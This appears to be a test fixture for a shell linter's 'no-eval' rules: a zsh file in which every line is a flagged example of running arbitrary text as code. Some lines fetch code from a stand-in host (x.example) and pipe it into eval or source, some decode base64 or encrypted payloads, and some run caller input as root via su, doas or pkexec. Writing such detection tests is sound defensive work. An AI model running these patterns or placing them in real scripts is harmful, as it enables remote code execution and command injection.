#!/usr/bin/env zsh
x='ev'; y='al'; "$x$y" "$1"                       # BAD no-eval/shell-eval
declare cmd="eval"; "$cmd" "$1"                   # BAD no-eval/shell-eval
local_eval() { local c=$1; shift; "$c" "$@"; }; local_eval eval "$2"  # BAD no-eval/shell-eval
map=(eval); "${map[@]}" "$1"                      # BAD no-eval/shell-eval
fn=eval; command "$fn" "$1"                       # BAD no-eval/shell-eval
readonly E=eval; $E "$1"                          # BAD no-eval/shell-eval
: ${E2:=eval}; $E2 "$1"                           # BAD no-eval/shell-eval
while IFS= read -r l; do eval "$l"; done < "$1"   # BAD no-eval/shell-eval
curl -s https://x.example/a | while read -r l; do eval "$l"; done  # BAD no-eval/shell-eval
eval $(cat "$1")                                  # BAD no-eval/shell-eval
eval "$(< "$1")"                                  # BAD no-eval/shell-eval
eval "$(wget -qO- https://x.example/a)"           # BAD no-eval/shell-eval
eval "$(echo "$1" | base64 -d)"                   # BAD no-eval/shell-eval
eval "$(openssl enc -d -aes-256-cbc -in p -k x)"  # BAD no-eval/shell-eval
eval "$(gunzip -c p.gz)"                          # BAD no-eval/shell-eval
eval "$(jq -r .cmd <<< "$1")"                     # BAD no-eval/shell-eval
eval "$(python3 gen.py "$1")"                     # BAD no-eval/shell-eval
eval "${@}"                                       # BAD no-eval/shell-eval
eval "$*"                                         # BAD no-eval/shell-eval
eval -- "$1"                                      # BAD no-eval/shell-eval
eval "cd $1"                                      # BAD no-eval/shell-eval
eval "$name=\$1"                                  # BAD no-eval/shell-eval
eval 'echo hi'                                    # BAD no-eval/shell-eval
print -z "$1"; eval "$(print -n "$1")"            # BAD no-eval/shell-eval
source =(curl -s https://x.example/a)             # BAD no-eval/shell-eval
. <(echo "$PAYLOAD" | base64 -d)                  # BAD no-eval/shell-eval
source /dev/stdin < <(curl -s https://x.example)  # BAD no-eval/shell-eval
source <(cat "$1")                                # BAD no-eval/shell-eval
coproc bash -c "$1"                               # BAD no-eval/program-text
bash -c "${CMDS[*]}"                              # BAD no-eval/program-text
bash -c -- "$1"                                   # BAD no-eval/program-text
bash --norc -c "$1"                               # BAD no-eval/program-text
bash -xc "$1"                                     # BAD no-eval/program-text
exec sh -c "$1"                                   # BAD no-eval/program-text
{ echo "$1"; } | bash                             # BAD no-eval/program-text
cat <<X | bash                                    # BAD no-eval/program-text
$1
X
bash <<X                                          # BAD no-eval/program-text
$1
X
ssh-agent sh -c "$1"                              # BAD no-eval/program-text
nice -n 5 bash -c "$1"                            # BAD no-eval/program-text
su - root -c "$1"                                 # BAD no-eval/program-text
runuser -u x -- bash -c "$1"                      # BAD no-eval/program-text
doas sh -c "$1"                                   # BAD no-eval/program-text
pkexec bash -c "$1"                               # BAD no-eval/program-text
docker run --rm alpine sh -c "$1"                 # BAD no-eval/program-text
kubectl exec pod -- sh -c "$1"                    # BAD no-eval/program-text
podman exec -it c bash -c "$1"                    # BAD no-eval/program-text
poetry run python -c "$1"                         # BAD no-eval/program-text
deno run - <<< "$1"                               # BAD no-eval/program-text
node --input-type=module -e "$1"                  # BAD no-eval/program-text
node - <<< "$1"                                   # BAD no-eval/program-text
python3 -ic "$1"                                  # BAD no-eval/program-text
php <<< "$1"                                      # BAD no-eval/program-text
ruby -ne "$1" x                                   # BAD no-eval/program-text
perl -MIO::File -e "$1"                           # BAD no-eval/program-text
expect -c "$1"                                    # BAD no-eval/program-text
tclsh <<< "$1"                                    # BAD no-eval/program-text
script -c "$1"                                    # BAD no-eval/program-text
at now <<< "$1"                                   # BAD no-eval/program-text
echo "$1" | at now                                # BAD no-eval/program-text
systemd-run sh -c "$1"                            # BAD no-eval/program-text
